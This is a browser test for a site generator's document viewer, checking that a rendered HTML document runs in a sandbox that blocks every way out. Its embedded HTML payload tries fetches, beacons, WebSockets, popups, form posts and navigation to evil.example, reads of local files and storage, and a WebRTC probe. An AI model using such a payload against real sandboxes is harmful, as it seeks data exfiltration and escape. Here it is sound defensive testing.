"""A page that runs a document: its script runs, and nothing else that it tries comes off. Opened from disk."""

from __future__ import annotations

import json
import socket
from pathlib import Path

import pytest
from makers import conversation, message
from playwright.sync_api import Page, Request

from sitegen.config import Config
from sitegen.model import DocumentBlock
from sitegen.render.conversation import render_conversation
from sitegen.render.settings import Settings, SourceLabels
from sitegen.theme import load_theme

pytestmark = pytest.mark.browser

#: Tries every way out and tells what came of each, as the title of its own document.
ARTIFACT = """<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="1; url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<link rel="prefetch" href="https://evil.example/prefetch">
<script src="https://evil.example/script.js"></script>
<script src="../../assets/js/sitegen.js"></script>
</head><body>
<h1 id="heading">Quotes: "double", 'single' &amp; &lt;tags&gt;</h1>
<img src="https://evil.example/image.png" srcset="https://evil.example/srcset.png 2x">
<iframe src="https://evil.example/frame"></iframe>
<video poster="https://evil.example/poster.png"></video>
<form action="https://evil.example/form" id="form"><input name="a"></form>
<script>
const told = {};
async function attempt(name, act) {
  try { told[name] = String(await act()); } catch (error) { told[name] = "refused"; }
}
(async () => {
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => { top.location = "https://evil.example/top"; return "asked"; });
  await attempt("localStorage", () => localStorage.length);
  await attempt("sessionStorage", () => sessionStorage.length);
  await attempt("indexedDB", () => new Promise((done, fail) => {
    const request = indexedDB.open("x"); request.onsuccess = () => done("open"); request.onerror = fail; }));
  await attempt("cookie", () => { document.cookie = "a=1"; return document.cookie; });
  await attempt("fetch", () => fetch("https://evil.example/fetch"));
  await attempt("file", () => fetch("../../index.html"));
  await attempt("beacon", () => {
    if (!navigator.sendBeacon("https://evil.example/beacon")) throw 0; return "queued"; });
  await attempt("socket", () => new Promise((done, fail) => {
    const socket = new WebSocket("wss://evil.example/"); socket.onopen = done; socket.onerror = fail; }));
  await attempt("eval", () => eval("1"));
  await attempt("popup", () => { if (!open("https://evil.example/popup")) throw 0; return "open"; });
  await attempt("siteScript", () => { if (!self.sitegen) throw 0; return "loaded"; });
  await attempt("peer", () => new RTCPeerConnection().createOffer());
  await attempt("peerOfFrame", () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const Peer = frame.contentWindow.RTCPeerConnection;
    const peer = new Peer({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] });
    peer.createDataChannel("x");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  try { document.getElementById("form").submit(); } catch (error) { told.form = "refused"; }
  const link = document.createElement("a");
  link.href = "https://evil.example/link";
  link.target = "_top";
  document.body.append(link);
  link.click();
  document.title = "told " + JSON.stringify(told);
  setTimeout(() => { location.href = "https://evil.example/self"; }, 300);
})();
</script></body></html>"""


SETTINGS = Settings(Config(), "Europe/Berlin", {"chatgpt": SourceLabels("ChatGPT", "ChatGPT")}, {})


def viewer_in(folder: Path, text: str) -> Path:
    """The page that runs a document, on the disk with what it loads."""
    document = DocumentBlock("d", text, "A <b>bold</b> page", "text/html")
    held = conversation("Pages", message("m", "assistant", blocks=(document,)))
    ((path, page),) = render_conversation(held, {}, SETTINGS).viewers
    theme = load_theme("default")
    for name, content in theme.static_files():
        (folder / "assets" / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / "assets" / name).write_bytes(content)
    (folder / path).parent.mkdir(parents=True)
    (folder / path).write_text(theme.render("viewer.html", SETTINGS.site(path), page), "utf-8")
    (folder / "index.html").write_text("secret", "utf-8")
    return folder / path


def test_viewer__script_runs_and_reaches_nothing(page: Page, tmp_path: Path):
    requests: list[Request] = []
    page.on("request", lambda request: requests.append(request))
    opened: list[Page] = []
    page.context.on("page", lambda other: opened.append(other))
    page.context.set_offline(True)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.settimeout(0.2)
        path = viewer_in(tmp_path, ARTIFACT.replace("PORT", str(listener.getsockname()[1])))
        page.goto(path.as_uri())
        frame = page.frames[1]
        frame.wait_for_function("document.title.startsWith('told ')")
        told = json.loads(frame.evaluate("document.title").removeprefix("told "))
        # Long enough for the refresh and the way it sends itself.
        page.wait_for_timeout(1500)
        with pytest.raises(TimeoutError):
            listener.recv(1)
    # A beacon counts as queued before it is refused; that none leaves is seen below.
    assert {name for name, outcome in told.items() if outcome != "refused"} <= {"beacon"}, told
    assert frame.evaluate("document.getElementById('heading').textContent") == "Quotes: \"double\", 'single' & <tags>"
    assert frame.evaluate("document.compatMode") == "CSS1Compat"
    assert page.url == path.as_uri()
    assert opened == []
    outside = [r.url for r in requests if not r.url.startswith((tmp_path.as_uri() + "/", "about:srcdoc"))]
    assert outside == []
    assert [r.url for r in requests if r.resource_type == "script"] == []
